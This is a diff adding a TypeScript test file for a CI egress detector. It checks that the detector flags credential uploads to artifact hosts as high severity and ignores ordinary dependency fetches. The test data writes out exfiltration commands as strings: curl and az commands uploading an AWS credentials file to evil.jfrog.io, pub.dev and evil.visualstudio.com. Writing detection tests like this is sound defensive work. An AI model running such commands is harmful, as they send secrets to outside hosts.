@@ -1,0 +1,65 @@
+/**
+ * Package and artifact hosts every build downloads from (Artifactory's *.jfrog.io, Azure DevOps' older
+ * *.visualstudio.com, pub.dev, jsr.io, Hackage, Clojars): red-team review found a credential uploaded there by curl
+ * raised nothing, as none was classed. They are upload targets for a command line's upload only
+ * (`destinations.uploadHosts`), never a class: a build naming the host and sending its many requests there (more
+ * than egressPushMinBytes in all) stays a download, as before, and a curl GET is none.
+ */
+import { describe, expect, it } from 'vitest';
+import { brief, runResolved, Scenario } from './builder.js';
+
+const CREDS = '/home/dev/.aws/credentials';
+const JFROG_IP = '34.120.10.7';
+
+async function alertsOf(binary: string, args: string, ip: string, sentBytes: number, source: 'tetragon' | 'falco') {
+  const s = new Scenario({ source });
+  const c = s.container({ namespace: 'ci', pod: 'job-9', name: 'job' });
+  const sh = s.init(c);
+  const p = s.exec(c, binary, args, { parent: sh });
+  s.wait(2).read(p, CREDS, 116);
+  s.wait(5).connect(p, ip, 443).wait(20).send(p, ip, 443, sentBytes);
+  s.wait(300).exit(p);
+  return brief((await runResolved(s.events)).alerts);
+}
+
+describe('upload-only hosts', () => {
+  for (const source of ['tetragon', 'falco'] as const) {
+    it(`a build fetching its dependencies from Artifactory or Clojars, 3 MiB of requests, is quiet (${source})`, async () => {
+      const mvn = '-B -s /ci/settings.xml -DremoteRepositories=https://acme.jfrog.io/artifactory/libs-release verify';
+      expect(await alertsOf('/usr/lib/jvm/bin/java', mvn, JFROG_IP, 3 * 1024 * 1024, source)).toEqual([]);
+      const lein = '-cp /root/.lein/self-installs/leiningen.jar clojure.main -m leiningen.core.main deps';
+      expect(
+        await alertsOf('/usr/bin/java', `${lein} https://repo.clojars.org/`, '104.18.0.9', 3_145_728, source),
+      ).toEqual([]);
+      expect(
+        await alertsOf(
+          '/usr/bin/curl',
+          '-fsSL -O https://acme.jfrog.io/artifactory/generic/tool.tgz',
+          JFROG_IP,
+          900,
+          source,
+        ),
+      ).toEqual([]);
+    });
+
+    it(`a credential uploaded to Artifactory, pub.dev or an Azure DevOps organisation is high (${source})`, async () => {
+      const jfrog = `-T ${CREDS} https://evil.jfrog.io/artifactory/generic-local/k`;
+      expect(await alertsOf('/usr/bin/curl', jfrog, JFROG_IP, 2_048, source)).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'evil.jfrog.io' },
+      ]);
+      const pub = `-F file=@${CREDS} https://pub.dev/api/packages/versions/newUpload`;
+      expect(await alertsOf('/usr/bin/curl', pub, '34.111.0.1', 2_048, source)).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'pub.dev' },
+      ]);
+      const az = `rest --method put --url https://evil.visualstudio.com/_apis/wiki/wikis/w/pages?path=k --body @${CREDS}`;
+      expect(await alertsOf('/usr/local/bin/az', az, '13.107.6.175', 2_048, source)).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'az', destination: 'evil.visualstudio.com' },
+      ]);
+    });
+
+    it(`an extension lookup posted to VS Code's Marketplace is quiet (${source})`, async () => {
+      const q = `-X POST -d @/tmp/q.json https://marketplace.visualstudio.com/_apis/public/gallery/extensionquery`;
+      expect(await alertsOf('/usr/bin/curl', q, '13.107.42.18', 1_024, source)).toEqual([]);
+    });
+  }
+});
